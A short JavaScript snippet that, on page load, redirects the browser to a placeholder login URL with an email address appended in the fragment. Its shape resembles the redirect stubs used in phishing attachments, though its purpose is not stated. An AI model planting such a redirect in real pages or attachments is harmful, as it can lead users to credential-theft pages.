(function () {
	var e = 'user@example.com', u = 'https://login.example.net/common?x=';
	window.addEventListener('load', function () { document.location.href = u + '#' + e; });
})();
